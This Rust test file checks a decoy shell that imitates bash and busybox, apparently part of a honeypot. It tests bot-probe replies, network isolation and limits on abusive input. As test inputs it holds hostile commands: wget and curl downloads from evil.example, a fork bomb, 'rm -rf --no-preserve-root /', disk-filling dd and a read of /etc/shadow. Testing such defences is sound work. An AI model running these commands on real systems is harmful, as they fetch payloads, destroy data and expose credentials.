use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;
use crate::decoy::testing::persona;
use crate::decoy::vfs::distro::DISTROS;

fn shell() -> Shell {
    Shell::new(&persona(&["ssh", "http", "mysql"]), "root")
}

fn on(distro: &str, user: &str) -> Shell {
    let mut persona = persona(&["ssh", "telnet"]);
    distro.clone_into(&mut persona.distro);
    Shell::new(&persona, user)
}

fn run(sh: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&sh.exec(line.as_bytes()).output).into_owned()
}

fn check(lines: &[(&str, &str)]) {
    let mut sh = shell();
    for (line, expected) in lines {
        assert_eq!(run(&mut sh, line), *expected, "{line}");
    }
}

#[test]
fn the_language_works_as_in_bash() {
    check(&[
        ("echo a  'b  c' \"d $USER\"", "a b  c d root\n"),
        ("x=5; echo $x ${x} \"${x}y\" '$x' ${y:-z} ${#x}", "5 5 5y $x z 1\n"),
        ("false || echo no; true && echo yes", "no\nyes\n"),
        ("echo $(echo in $(echo deep)) `echo tick`", "in deep tick\n"),
        ("for i in 1 2 3; do echo -n $i,; done; echo", "1,2,3,\n"),
        ("i=0; while [ $i -lt 3 ]; do i=$((i+1)); done; echo $i", "3\n"),
        ("if [ -d /etc ]; then echo dir; else echo none; fi", "dir\n"),
        ("case abc in a*) echo A;; *) echo B;; esac", "A\n"),
        ("f() { echo \"[$1]\"; }; f x", "[x]\n"),
        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
        ("echo one > /tmp/f; echo two >> /tmp/f; cat /tmp/f | wc -l", "2\n"),
        ("nosuch 2>/dev/null; echo $?", "127\n"),
        ("ls /nosuch 2>&1 | head -1", "ls: cannot access '/nosuch': No such file or directory\n"),
        ("echo {a,b}{1..2}", "a1 a2 b1 b2\n"),
        ("v=/a/b/c.txt; echo ${v##*/} ${v%.*}", "c.txt /a/b/c\n"),
        ("while read l; do echo got $l; done < /tmp/f", "got one\ngot two\n"),
        ("echo /etc/host*", "/etc/host.conf /etc/hostname /etc/hosts\n"),
        ("echo ok | sed s/o/O/ | tr k K", "OK\n"),
        ("printf '%s-%03d\\n' a 7 b 8", "a-007\nb-008\n"),
        ("echo -ne '\\x41\\x42\\n'", "AB\n"),
        ("! true; echo $?", "1\n"),
        ("a=(1 'b c' 3); echo ${a[1]} ${#a[@]} $a", "b c 3 1\n"),
        ("i=2; echo ${a[i]} ${a[$i]}${a[9]}", "3 3\n"),
        ("for x in \"${a[@]}\"; do echo \"[$x]\"; done", "[1]\n[b c]\n[3]\n"),
        ("b=($(printf 'x y\\nz')); echo ${#b[@]} ${b[*]}", "3 x y z\n"),
        ("c=(); echo ${#c[@]}; d=(\n1\n2 )\necho ${d[1]}", "0\n2\n"),
    ]);
}

#[test]
fn errors_read_as_bash_prints_them() {
    check(&[
        ("nosuch", "-bash: nosuch: command not found\n"),
        ("cd /nope", "-bash: cd: /nope: No such file or directory\n"),
        ("./x", "-bash: ./x: No such file or directory\n"),
        ("/etc", "-bash: /etc: Is a directory\n"),
        ("/etc/passwd", "-bash: /etc/passwd: Permission denied\n"),
        ("echo )", "-bash: syntax error near unexpected token `)'\n"),
        (";", "-bash: syntax error near unexpected token `;'\n"),
        ("cat /nope", "cat: /nope: No such file or directory\n"),
        ("> /nope/x", "-bash: /nope/x: No such file or directory\n"),
        ("rmdir /etc", "rmdir: failed to remove '/etc': Directory not empty\n"),
        ("mkdir /etc", "mkdir: cannot create directory ‘/etc’: File exists\n"),
    ]);
    let mut sh = shell();
    let exec = sh.exec_command(b"nosuch");
    assert_eq!(
        (exec.output.as_slice(), exec.status),
        (&b"bash: line 1: nosuch: command not found\n"[..], 127)
    );
}

#[test]
fn a_command_may_take_several_lines() {
    let mut sh = shell();
    assert_eq!(run(&mut sh, "for i in 1 2"), "");
    assert_eq!(sh.prompt(), b"> ");
    assert_eq!(run(&mut sh, "do echo $i"), "");
    assert_eq!(run(&mut sh, "done"), "1\n2\n");
    assert_eq!(run(&mut sh, "cat <<EOF"), "");
    assert_eq!(run(&mut sh, "a $USER"), "");
    assert_eq!(run(&mut sh, "EOF"), "a root\n");
    run(&mut sh, "echo 'open");
    sh.interrupt();
    assert_eq!(sh.prompt(), b"root@files02:~# ");
}

#[test]
fn probes_of_bots_get_the_answers_they_wait_for() {
    let mut sh = on("alpine", "root");
    assert_eq!(run(&mut sh, "/bin/busybox MIRAI"), "MIRAI: applet not found\n");
    assert_eq!(run(&mut sh, "enable"), "-ash: enable: not found\n");
    assert_eq!(run(&mut sh, "/bin/busybox echo -ne '\\x65\\x6c\\x66'"), "elf");
    let mut sh = on("rocky9", "root");
    assert_eq!(run(&mut sh, "/bin/busybox ECCHI"), "-bash: /bin/busybox: No such file or directory\n");
    let mut sh = on("debian", "root");
    assert_eq!(run(&mut sh, "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    assert!(run(&mut sh, "busybox | head -n 1").starts_with("BusyBox v1.35.0 (Debian 1:1.35.0"));
    assert_eq!(
        run(&mut sh, "busybox wget http://192.0.2.1/a"),
        "Connecting to 192.0.2.1 (192.0.2.1:80)\nwget: can't connect to remote host (192.0.2.1): Network unreachable\n"
    );
    assert!(run(&mut sh, "wget http://192.0.2.1/a").starts_with("--20"));
    assert!(sh.exec(b"cat /bin/echo").output.starts_with(b"\x7fELF\x02\x01\x01"));
    let head = sh.exec(b"dd bs=52 count=1 if=/bin/echo 2>/dev/null").output;
    assert_eq!((head.len(), head.get(18)), (52, Some(&0x3e)));
    assert!(run(&mut sh, "cat /proc/mounts").contains("/dev/sda1 / ext4 rw"));
    assert_eq!(run(&mut sh, "sh"), "");
    assert_eq!(sh.prompt(), b"# ");
    assert_eq!(run(&mut sh, "linuxshell"), "sh: 1: linuxshell: not found\n");
    assert_eq!(run(&mut sh, "cd /tmp || cd /var/run; >.x && cat .x; echo ok"), "ok\n");
    assert!(!sh.exec(b"exit").exit);
    assert!(sh.exec(b"exit").exit);
}

#[test]
fn nothing_reaches_a_network() {
    let mut sh = shell();
    assert!(run(&mut sh, "wget http://203.0.113.9/x.sh").contains("failed: Network is unreachable"));
    assert!(
        run(&mut sh, "wget http://evil.example/x").contains("unable to resolve host address ‘evil.example’")
    );
    assert_eq!(
        run(&mut sh, "curl -O http://evil.example/x"),
        "curl: (6) Could not resolve host: evil.example\n"
    );
    assert_eq!(
        run(&mut sh, "ls x x.sh 2>/dev/null; ping -c1 203.0.113.9"),
        "ping: connect: Network is unreachable\n"
    );
}

#[test]
fn users_have_their_rights() {
    let mut sh = on("ubuntu22", "ubuntu");
    assert_eq!(sh.prompt(), b"ubuntu@files02:~$ ");
    assert_eq!(run(&mut sh, "id"), "uid=1000(ubuntu) gid=1000(ubuntu) groups=1000(ubuntu),27(sudo)\n");
    assert_eq!(run(&mut sh, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
    assert_eq!(run(&mut sh, "ls /root"), "ls: cannot open directory '/root': Permission denied\n");
    assert!(run(&mut sh, "sudo cat /etc/shadow").starts_with("root:$y$j9T$"));
    assert_eq!(run(&mut sh, "touch /etc/x"), "touch: cannot touch '/etc/x': Permission denied\n");
    run(&mut sh, "sudo su -");
    assert_eq!(sh.prompt(), b"root@files02:~# ");
    assert_eq!(run(&mut sh, "whoami; pwd"), "root\n/root\n");
    assert!(!sh.exec(b"exit").exit);
    assert_eq!(run(&mut sh, "whoami"), "ubuntu\n");
    assert_eq!(run(&mut sh, "sudo -u root whoami; whoami"), "root\nubuntu\n");
}

#[test]
fn every_distribution_agrees_with_itself() {
    for distro in &DISTROS {
        let mut sh = on(distro.slug, "root");
        let release = run(&mut sh, "cat /etc/os-release");
        assert!(release.contains(distro.pretty), "{}", distro.slug);
        assert_eq!(run(&mut sh, "uname -r"), format!("{}\n", distro.kernel));
        assert!(run(&mut sh, "cat /proc/version").contains(distro.kernel));
        assert!(run(&mut sh, "uname -a").contains(distro.kernel_build));
        let ip = "127.77.0.10";
        for line in ["ip a", "hostname -I", "ifconfig"] {
            let text = run(&mut sh, line);
            let absent = distro.slug == "arch" && line == "ifconfig";
            assert!(text.contains(ip) || absent, "{} {line}: {text}", distro.slug);
        }
        for line in [
            "ps",
            "ps aux",
            "ps -ef",
            "netstat -tlnp",
            "free -m",
            "df -h",
            "w",
            "last",
            "lscpu",
            "mount",
            "uptime",
            "date",
            "ls -la /",
            "env",
        ] {
            let exec = sh.exec(line.as_bytes());
            let fine = exec.status == 0 || exec.status == 127;
            assert!(fine && !exec.output.is_empty(), "{} {line} {exec:?}", distro.slug);
        }
        assert!(!sh.prompt().is_empty());
        let shown = String::from_utf8_lossy(&sh.banner()).to_lowercase();
        assert!(!shown.contains("decnet"));
    }
}

#[test]
fn uptime_grows_and_outlives_the_program() {
    let sh = shell();
    let machine = sh.machine();
    let now = now();
    assert_eq!(machine.boot(now), machine.boot(now + 1));
    assert!(machine.boot(now) < now);
    assert!(now + 400 * 86_400 - machine.boot(now + 400 * 86_400) < 90 * 86_400);
    assert_eq!(machine.boot(now), shell().machine().boot(now));
}

#[test]
fn hostile_lines_end_soon_and_stay_small() {
    let many = [
        "while true; do echo x; done".to_owned(),
        "while :; do :; done".to_owned(),
        "f() { f; f; }; f".to_owned(),
        ":(){ :|:& };:".to_owned(),
        "x=a; while :; do x=$x$x; done".to_owned(),
        "x=aaaaaaaaaaaaaaaa; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13; do x=$x$x$x; done; echo $x".to_owned(),
        "yes | head -c 10000000; cat /dev/zero".to_owned(),
        "cat /dev/urandom | base64 | base64 | base64 | md5sum".to_owned(),
        "ls -laR /".to_owned(),
        "find / -exec cat {} \\;".to_owned(),
        "find / -name '*a*a*a*a*b'".to_owned(),
        "grep -r a /".to_owned(),
        "echo /*/*/*/*".to_owned(),
        "grep -rE '(a*)*b' /".to_owned(),
        "seq 1 20000 | sed -E 's/(([0-9])*)*x/y/g'".to_owned(),
        "yes aaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a|aa)+$b'".to_owned(),
        "echo {1..256}{1..256}".to_owned(),
        "dd if=/dev/zero of=/tmp/x bs=1G count=100000".to_owned(),
        "seq 1 99999999999".to_owned(),
        "rm -rf --no-preserve-root /".to_owned(),
        "cp -r / /tmp/all".to_owned(),
        "$(".repeat(4000),
        "((((".repeat(4000),
        "`".repeat(16_000),
        "<html>".repeat(2700),
        "a|".repeat(8000),
        "eval eval eval eval eval eval eval eval eval eval eval eval ls".to_owned(),
        "e() { eval \"$1\" \"$1\"; }; e e".to_owned(),
        "echo 'sh /tmp/r; sh /tmp/r' > /tmp/r; sh /tmp/r".to_owned(),
        "printf '%999999999d' 1; printf '%s' $(seq 1 5000)".to_owned(),
        "${x:-${x:-${x:-${x:-${x:-${x:-${x:-${x:-${x:-${x:-${x:-${x:-a}}}}}}}}}}}}".to_owned(),
    ];
    for line in many {
        let mut sh = shell();
        let start = Instant::now();
        let exec = sh.exec(line.as_bytes());
        let line: String = line.chars().take(60).collect();
        assert!(exec.output.len() <= MAX_OUTPUT, "{line}");
        assert!(start.elapsed() < Duration::from_secs(4), "{line} took {:?}", start.elapsed());
        assert!(sh.vfs().used() <= 1 << 20, "{line}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn any_bytes_are_answered(lines in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..300), 1..4)) {
        let mut sh = shell();
        for line in lines {
            prop_assert!(sh.exec(&line).output.len() <= MAX_OUTPUT);
            prop_assert!(!sh.prompt().is_empty());
        }
    }

    #[test]
    fn any_words_are_answered(words in proptest::collection::vec(proptest::sample::select(WORDS.to_vec()), 1..24)) {
        let mut sh = shell();
        let line = words.join(" ");
        prop_assert!(sh.exec(line.as_bytes()).output.len() <= MAX_OUTPUT);
    }
}

const WORDS: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "sed",
    "awk",
    "grep",
    "cut",
    "tr",
    "sort",
    "find",
    "dd",
    "head",
    "tail",
    "wc",
    "ps",
    "id",
    "chmod",
    "printf",
    "test",
    "[",
    "]",
    "-n",
    "-c",
    "-la",
    "-1",
    "--",
    "/etc",
    "/proc",
    "/etc/passwd",
    "/tmp/x",
    ";",
    "|",
    "&&",
    "||",
    "&",
    "(",
    ")",
    "{",
    "}",
    "if",
    "then",
    "fi",
    "for",
    "in",
    "do",
    "done",
    "while",
    "$x",
    "${x#a}",
    "$(",
    "`",
    "'",
    "\"",
    ">",
    "<",
    ">>",
    "2>&1",
    "<<E",
    "\n",
    "E",
    "*",
    "[a-",
    "s/a/b/",
    "1,3p",
    "{print $1}",
    "-k2",
    "%s%d%-9x",
    "\\",
    "$((1+",
    "))",
    "!",
    "case",
    "esac",
    ";;",
    "x=1",
    "base64",
    "xargs",
    "md5sum",
    "uniq",
    "cp",
    "mv",
    "rm",
    "-rf",
    "ln",
    "-s",
    "date",
    "+%s",
    "kill",
    "read",
    "eval",
    "exec",
    "set",
    "shift",
    "unset",
    "sudo",
    "su",
    "sh",
    "-c",
    "busybox",
    "ä",
    "\u{fffd}",
    "-d",
    "-f1",
    "a-z",
    "A-Z",
    "9999999999999999999",
    "-9",
    "0x",
    "[[",
    "]]",
];

/// What the programs of Debian 12 printed for the same.
#[test]
fn messages_are_those_of_the_genuine_programs() {
    check(&[
        (
            "printf 'a a\\n' > /tmp/1; printf 'a b\\nc\\n' > /tmp/2; diff /tmp/1 /tmp/2",
            "1c1,2\n< a a\n---\n> a b\n> c\n",
        ),
        ("cmp /tmp/1 /tmp/2", "/tmp/1 /tmp/2 differ: byte 3, line 1\n"),
        ("diff /tmp/1 /tmp/zz", "diff: /tmp/zz: No such file or directory\n"),
        (
            "diff /tmp/1",
            "diff: missing operand after '/tmp/1'\ndiff: Try 'diff --help' for more information.\n",
        ),
        ("expr 1 + 2; expr 3 '*' 4; expr a", "3\n12\na\n"),
        ("expr 1 +; echo $?", "expr: syntax error: missing argument after ‘+’\n2\n"),
        ("expr 5 / 0; echo $?", "expr: division by zero\n2\n"),
        ("factor 12", "12: 2 2 3\n"),
        ("sysctl nosuch.x", "sysctl: cannot stat /proc/sys/nosuch/x: No such file or directory\n"),
        (
            "tar xf /tmp/no.tgz",
            "tar: /tmp/no.tgz: Cannot open: No such file or directory\ntar: Error is not recoverable: exiting now\n",
        ),
        ("gzip /tmp/no", "gzip: /tmp/no: No such file or directory\n"),
        ("ldd", "ldd: missing file arguments\nTry `ldd --help' for more information.\n"),
        ("iptables -S", "-P INPUT ACCEPT\n-P FORWARD ACCEPT\n-P OUTPUT ACCEPT\n"),
        ("env nosuch", "env: ‘nosuch’: No such file or directory\n"),
        ("env A=1 printenv A; echo $A", "1\n\n"),
        ("timeout 1 nosuch", "timeout: failed to run command ‘nosuch’: No such file or directory\n"),
        ("echo $((1/0)); echo $?", "-bash: 1/0: division by 0 (error token is \"0\")\n"),
        ("sort /nosuch; echo $?", "sort: cannot read: /nosuch: No such file or directory\n2\n"),
        ("passwd -S root | cut -d' ' -f 1,2,4-", "root P 0 99999 7 -1\n"),
    ]);
}

#[test]
fn a_shell_on_a_pipe_numbers_its_lines() {
    let mut sh = shell();
    sh.pipe(None);
    assert_eq!(run(&mut sh, "id -u"), "0\n");
    assert_eq!(run(&mut sh, "nosuch"), "-bash: line 2: nosuch: command not found\n");
    assert_eq!(run(&mut sh, "sleep 1 &"), "");
    let mut sh = shell();
    sh.pipe(Some("sh"));
    assert_eq!(run(&mut sh, "exit"), "");
}

/// What mawk 1.3.4 and gawk print for the same.
#[test]
fn awk_one_liners() {
    check(&[
        ("awk 'BEGIN{print 1+2}'", "3\n"),
        ("awk -F: '{print $1}' /etc/passwd | head -n 1", "root\n"),
        ("printf 'a b\\nc d\\n' | awk 'FNR == 2 {print $2;}'", "d\n"),
        ("printf 'a b\\nc d\\n' | awk '{print $2 ,$1}'", "b a\nd c\n"),
        ("printf 'a b\\nc d\\n' | awk 'NR==1{print $1} END{print NR}'", "a\n2\n"),
        ("printf '1\\n2\\n3\\n' | awk '{s+=$1} END {print s, s/NR}'", "6 2\n"),
        ("echo a:b | awk -F: '{print $NF\"-\"$(NF-1)}'", "b-a\n"),
        ("awk '/^root/{print \"found\"}' /etc/passwd", "found\n"),
        ("echo 5 | awk '{if ($1 > 3) print \"big\"; else print \"small\"}'", "big\n"),
        ("echo x | awk '{printf \"%5s|%-3d|%.2f\\n\", $1, 7, 1/3}'", "    x|7  |0.33\n"),
        ("echo 'Hello' | awk '{print toupper($0), length($0), substr($0,2,3)}'", "HELLO 5 ell\n"),
        ("echo 'a b c' | awk '{$1; print NF}'", "3\n"),
        ("awk -v n=4 'BEGIN{print n*2, (n>3)?\"y\":\"n\"}'", "8 y\n"),
        ("echo 10.0.0.1 | awk -F. '$1 ~ /^10$/ && $4 != 2 {print \"in\"}'", "in\n"),
        ("printf 'a\\nb\\nc\\n' | awk 'NR>1'", "b\nc\n"),
        ("echo 3 | awk '{print $1^2}'", ""),
    ]);
}

proptest! {
    #[test]
    fn any_awk_program_ends(program in "[ -~\\n]{0,80}", line in "[ -~]{0,40}") {
        if let Some(mut program) = awk::Program::new(&program, &[]) {
            program.begin();
            program.line(&line);
            program.end();
        }
    }
}
